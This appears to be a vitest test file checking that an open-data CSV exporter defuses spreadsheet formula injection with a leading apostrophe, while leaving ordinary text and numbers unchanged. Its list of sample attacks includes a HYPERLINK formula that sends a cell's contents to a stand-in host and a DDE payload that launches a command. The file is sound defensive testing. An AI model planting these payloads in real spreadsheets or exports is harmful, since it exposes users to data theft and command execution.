// Open data in CSV: a cell a spreadsheet would run as a formula is written as text (OWASP "CSV injection").
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv, type Dataset } from '../../src/lib/open-data';

const table = (values: Array<string | number | null | string[]>): Dataset => ({
  name: 'events',
  fields: ['id', 'value'],
  records: values.map((value, i) => ({ id: `r${i}`, value })),
});
const cells = (ds: Dataset) => (parse(toCsv(ds), { bom: true, columns: true, relax_quotes: false }) as Array<Record<string, string>>).map((r) => r.value);

describe('CSV cells that start a formula', () => {
  const attacks = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', ' =1+1', '＝1+1', "=cmd|' /C calc'!A0"];

  it.each(attacks)('neutralises %j with a leading apostrophe, quoted', (text) => {
    const [value] = cells(table([text]));
    expect(value).toBe(`'${text}`);
    expect(csvCell(text).startsWith(`"'`)).toBe(true);
  });

  it('neutralises a list whose first item starts a formula', () => {
    expect(cells(table([['=1+1', 'b']]))).toEqual(["'=1+1; b"]);
  });

  it('leaves ordinary text as written, including - and = inside it', () => {
    const ordinary = ['Chungcheongnam-do', 'Bắc Giang – Xaysomboun', 'a = b', 'ຊຽງຂວາງ', '충청남도', 'e-mail@example', ''];
    expect(cells(table(ordinary))).toEqual(ordinary);
  });

  it('keeps numbers numeric: a negative longitude stays -75.5, unquoted', () => {
    expect(csvCell(-75.5)).toBe('-75.5');
    expect(csvCell(0)).toBe('0');
    expect(cells(table([-75.5, 1895560000]))).toEqual(['-75.5', '1895560000']);
  });
});
